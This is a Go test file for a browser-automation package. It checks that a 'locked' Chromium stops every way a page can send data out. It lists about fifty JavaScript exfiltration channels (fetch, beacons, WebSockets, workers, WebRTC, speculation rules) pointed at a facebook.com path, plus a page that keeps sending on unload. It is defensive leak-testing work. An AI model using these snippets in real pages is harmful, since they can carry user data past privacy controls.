package chrome

import (
	"fmt"
	"io"
	"maps"
	"net"
	"slices"
	"strings"
	"testing"
	"time"
)

// channels are the ways in which a page can send without a form: each script
// asks for /sent/NAME. What only works together with other things is set up by
// the page before the lock, see [channelPage].
var channels = map[string]string{
	"fetch":             `fetch(to, {method: 'POST', body: 'x'}).catch(() => {})`,
	"fetch-keepalive":   `fetch(to, {method: 'POST', keepalive: true, body: 'x'}).catch(() => {})`,
	"fetch-no-cors":     `fetch('https://elsewhere.example/sent/fetch-no-cors', {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => {})`,
	"xhr":               `(x => { x.open('POST', to); x.send('x') })(new XMLHttpRequest())`,
	"beacon":            `navigator.sendBeacon(to, 'x')`,
	"image":             `new Image().src = to`,
	"image-elsewhere":   `new Image().src = 'https://elsewhere.example/sent/image-elsewhere'`,
	"script":            `add('script', {src: to})`,
	"style":             `add('link', {rel: 'stylesheet', href: to})`,
	"background":        `add('div', {style: 'width:9px;height:9px;background:url(' + to + ')'})`,
	"font":              `add('style', {textContent: '@font-face{font-family:q;src:url(' + to + ')} i{font-family:q}'}); add('i', {textContent: 'q'})`,
	"import":            `import(to).catch(() => {})`,
	"modulepreload":     `add('link', {rel: 'modulepreload', href: to})`,
	"preload":           `add('link', {rel: 'preload', as: 'image', href: to})`,
	"prefetch":          `add('link', {rel: 'prefetch', href: to})`,
	"icon":              `add('link', {rel: 'icon', href: to})`,
	"manifest":          `add('link', {rel: 'manifest', href: to})`,
	"event-source":      `new EventSource(to)`,
	"video":             `add('video', {src: to, preload: 'auto'})`,
	"object":            `add('object', {data: to})`,
	"frame":             `add('iframe', {src: to})`,
	"frame-elsewhere":   `add('iframe', {src: 'https://elsewhere.example/sent/frame-elsewhere'})`,
	"frame-srcdoc":      `add('iframe', {srcdoc: '<img src="https://www.facebook.com/sent/frame-srcdoc">'})`,
	"form-in-frame":     `(n => { add('iframe', {name: n}); const f = add('form', {method: 'post', action: to, target: n}); f.submit() })('n' + Math.random())`,
	"zz-form-in-tab":    `add('form', {method: 'post', action: to, target: '_blank'}).submit()`,
	"zz-window-open":    `open(to)`,
	"worker":            `new Worker(URL.createObjectURL(new Blob(['fetch("' + to + '").catch(() => {})'])))`,
	"worker-socket":     `new Worker(URL.createObjectURL(new Blob(['new WebSocket("' + to.replace('https', 'wss') + '")'])))`,
	"shared-worker":     `new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + to + '").catch(() => {})'])))`,
	"shared-worker-ws":  `new SharedWorker(URL.createObjectURL(new Blob(['new WebSocket("' + to.replace('https', 'wss') + '")'])))`,
	"worker-there":      `there.postMessage(to)`,
	"worker-there-ws":   `there.postMessage(to.replace('https', 'wss'))`,
	"shared-there-ws":   `sharedThere.port.postMessage(to.replace('https', 'wss'))`,
	"shared-there":      `sharedThere.port.postMessage(to)`,
	"service-worker":    `serving.active.postMessage(to)`,
	"service-worker-ws": `serving.active.postMessage(to.replace('https', 'wss'))`,
	"frame-there":       `frames[0].postMessage(to, '*')`,
	"frame-socket":      `frames[0].postMessage(to.replace('https', 'wss'), '*')`,
	"tab-there":         `new BroadcastChannel('c').postMessage(to)`,
	"socket":            `new WebSocket(to.replace('https', 'wss'))`,
	"socket-stream":     `new WebSocketStream(to.replace('https', 'wss')).opened.catch(() => {})`,
	"fetch-later":       `fetchLater(to, {activateAfter: 0})`,
	"speculate":         `add('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: [to], eagerness: 'immediate'}]})})`,
	"prerender":         `add('script', {type: 'speculationrules', textContent: JSON.stringify({prerender: [{source: 'list', urls: [to], eagerness: 'immediate'}]})})`,
	"payment":           `new PaymentRequest([{supportedMethods: to}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => {})`,
	"identity":          `navigator.credentials.get({identity: {providers: [{configURL: to, clientId: 'x'}]}}).catch(() => {})`,
	"attribution":       `add('img', {attributionSrc: to})`,
	"web-transport":     `new WebTransport(to).ready.catch(() => {})`,
	"web-rtc":           `(c => { c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)) })(new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + bare}]}))`,
	"web-rtc-tcp":       `(c => { c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)) })(new RTCPeerConnection({iceTransportPolicy: 'relay', iceServers: [{urls: 'turn:127.0.0.1:' + bare + '?transport=tcp', username: 'x', credential: 'x'}]}))`,
	"css-import":        `add('style', {textContent: '@import url(' + to + ');'})`,
	"svg-use":           `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + to + '" width=9 height=9></image></svg>')`,
	"audio":             `new Audio(to).load()`,
}

// notSending are the channels that do not work in the Chromium of the tests even
// without brakes, with the reason. They are tried all the same.
var notSending = map[string]string{
	"manifest":    "loaded on installation only",
	"icon":        "not loaded without a window",
	"speculate":   "switched off by the profile's preferences",
	"prerender":   "switched off by the profile's preferences",
	"attribution": "switched off in this version",
	"web-rtc-tcp": "not asked on loopback",
}

// channelPage sets up what some channels need.
const channelPage = `<body><h1>Channels</h1><iframe src="https://elsewhere.example/listener/"></iframe>
<script>
function add(name, props) { return document.body.appendChild(Object.assign(document.createElement(name), props)) }
const speak = 'const say = (to) => to.startsWith("wss") ? new WebSocket(to) : fetch(to, {method: "POST", mode: "no-cors", body: "x"}).catch(() => {});';
const there = new Worker(URL.createObjectURL(new Blob([speak + 'onmessage = (e) => say(e.data)'])));
const sharedThere = self.SharedWorker && new SharedWorker(URL.createObjectURL(new Blob([speak + 'onconnect = (e) => { e.ports[0].onmessage = (m) => say(m.data) }'])));
let serving;
const ready = Promise.race([
	new Promise((done) => setTimeout(done, 3000)),
	navigator.serviceWorker.register('/channel-worker.js').then(() => navigator.serviceWorker.ready).then((r) => { serving = r }),
]).then(() => true);
</script>`

// TestChannels: while the form is locked, a page tries all of them; none
// reaches a server. The control is a browser without brakes, in which they do.
func TestChannels(t *testing.T) {
	for _, c := range []struct {
		name string
		off  locks
	}{{"locked", 0}, {"control", lockBrakes | lockOutlet}} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			o := options(t)
			w, err := serveWeb()
			if err != nil {
				t.Fatal(err)
			}
			defer w.close()
			if err := w.listenBare(); err != nil {
				t.Fatal(err)
			}
			h, err := newHand()
			if err != nil {
				t.Fatal(err)
			}
			const speak = `const say = (to) => to.startsWith("wss") ? new WebSocket(to) : fetch(to, {mode: "no-cors"}).catch(() => {});`
			w.put("/listener/", `<!doctype html><script>`+speak+`onmessage = (e) => say(e.data)</script>`)
			w.put("/channel-worker.js", speak+`addEventListener('message', (e) => say(e.data))`)
			w.put("/other-tab/", `<!doctype html><script>`+speak+`new BroadcastChannel('c').onmessage = (e) => say(e.data)</script>`)
			o.Args, o.off = append(w.args(), h.arg()), c.off
			b := started(t, o)
			if err := b.Open(t.Context(), w.page(channelPage)); err != nil {
				t.Fatal(err)
			}
			tab := h.on(t)
			tab.try(`open('/other-tab/', '_blank', 'noopener')`)
			until(t, 5*time.Second, "the other tab", func() bool { return w.visits("www.facebook.com/other-tab/") > 0 })
			if _, err := tab.call("Page.bringToFront", nil); err != nil { // a hidden page loads less
				t.Fatal(err)
			}
			tab.eval(`ready`)
			if c.off == 0 {
				b.net.to(locked)
			}
			for _, name := range slices.Sorted(maps.Keys(channels)) {
				tab.try(fmt.Sprintf(`{ const to = 'https://www.facebook.com/sent/%s', bare = %d; try { %s } catch (e) { console.log(e) } }`, name, w.bare, channels[name]))
			}
			if c.off == 0 {
				quiet(t, 1200*time.Millisecond, func() bool { return false })
			} else {
				until(t, 5*time.Second, "", func() bool {
					got := w.counted()
					for name := range channels {
						if _, excused := notSending[name]; !excused && got[name] == 0 {
							return false
						}
					}
					return true
				})
			}
			b.net.shut()
			got := w.counted()
			t.Logf("arrived: %s", strings.Join(names(got), " "))
			for name := range channels {
				_, excused := notSending[name]
				switch {
				case c.off == 0 && got[name] > 0:
					t.Errorf("%s got out", name)
				case c.off != 0 && got[name] == 0 && !excused:
					t.Errorf("%s sends nothing, so its test proves nothing", name)
				}
			}
		})
	}
}

// listenBare also counts what comes without HTTP: QUIC on the site's own port,
// STUN and TURN on another.
func (w *web) listenBare() error {
	quic, err := net.ListenPacket("udp", fmt.Sprintf("127.0.0.1:%d", w.port))
	if err != nil {
		return err
	}
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	w.bare = tcp.Addr().(*net.TCPAddr).Port
	stun, err := net.ListenPacket("udp", fmt.Sprintf("127.0.0.1:%d", w.bare))
	if err != nil {
		return err
	}
	w.also = []io.Closer{quic, tcp, stun}
	count := func(way string) {
		w.mu.Lock()
		defer w.mu.Unlock()
		w.sent[way]++
	}
	packets := func(c net.PacketConn, way string) {
		buf := make([]byte, 2048)
		for {
			if _, _, err := c.ReadFrom(buf); err != nil {
				return
			}
			count(way)
		}
	}
	go packets(quic, "web-transport")
	go packets(stun, "web-rtc")
	go func() {
		for {
			c, err := tcp.Accept()
			if err != nil {
				return
			}
			count("web-rtc-tcp")
			c.Close()
		}
	}()
	return nil
}

// restless sends all the time, by whatever outlives a page: it is what stands
// open when the browser is closed, or when the program dies.
const restless = `<body><h1>Restless</h1><script>
const go = (way) => {
	const to = 'https://www.facebook.com/sent/' + way;
	fetch(to + '-fetch', {method: 'POST', keepalive: true, body: 'x'}).catch(() => {});
	navigator.sendBeacon(to + '-beacon', 'x');
	new Image().src = to + '-image?' + Math.random();
	try { const x = new XMLHttpRequest(); x.open('POST', to + '-xhr', way === 'leave'); x.send('x') } catch {}
	try { new WebSocket(to.replace('https', 'wss') + '-socket') } catch {}
	try { fetchLater(to + '-later', {method: 'POST', activateAfter: way === 'leave' ? undefined : 0}) } catch {}
};
var worker = new Worker(URL.createObjectURL(new Blob(['setInterval(() => { fetch("https://www.facebook.com/sent/worker", {method: "POST", keepalive: true}).catch(() => {}) }, 5)'])));
for (const type of ['pagehide', 'visibilitychange', 'beforeunload', 'unload', 'freeze']) addEventListener(type, () => go('leave'));
setInterval(() => go('timer'), 5);
setInterval(() => { const f = document.createElement('form'); f.method = 'post'; f.action = '/sent/form'; document.body.append(f); f.submit() }, 7);
</script>`

// TestEnds: nothing leaves when the browser is closed in order, when its tab is,
// or when this program dies. Its request gate dies with it, and the browser, which
// ends because its pipe is cut, lives for a quarter of a second without one
// (measured, Chromium 156); but the outlet is shut, and then gone.
func TestEnds(t *testing.T) {
	if !*thorough {
		t.Skip("measures, and takes long: run with -thorough")
	}
	for _, end := range []string{"close", "tab", "cut", "kill"} {
		t.Run(end, func(t *testing.T) {
			t.Parallel()
			o := options(t)
			w, err := serveWeb()
			if err != nil {
				t.Fatal(err)
			}
			defer w.close()
			h, err := newHand()
			if err != nil {
				t.Fatal(err)
			}
			o.Args = append(w.args(), h.arg())
			b := started(t, o)
			if err := b.Open(t.Context(), w.page(`<h1>calm</h1>`)); err != nil {
				t.Fatal(err)
			}
			b.net.to(locked)
			tab := h.on(t)
			tab.try("document.open(); document.write(" + "`" + strings.ReplaceAll(restless, "`", "") + "`" + ")")
			if !until(t, 3*time.Second, "the page tries", func() bool { return len(b.Attempts()) > 50 }) {
				t.FailNow()
			}
			pid := b.proc.cmd.Process.Pid
			switch end {
			case "close":
			case "tab":
				_, _ = tab.call("Page.close", nil)
				quiet(t, 300*time.Millisecond, func() bool { return false })
			case "cut":
				b.proc.pipe.Close()
			case "kill":
				b.proc.pipe.out.Close() // as the kernel does for a process that is killed
			}
			if end == "cut" || end == "kill" {
				begin := time.Now()
				until(t, 10*time.Second, "the browser ends when its pipe does", func() bool { return !alive(pid) })
				t.Logf("the browser ended after %s", time.Since(begin).Round(time.Millisecond))
			}
			if err := b.Close(); err != nil {
				t.Error(err)
			}
			quiet(t, 100*time.Millisecond, func() bool { return false })
			got := w.counted()
			t.Logf("got out: %v", got)
			if len(got) > 0 {
				t.Errorf("got out: %v", got)
			}
		})
	}
}
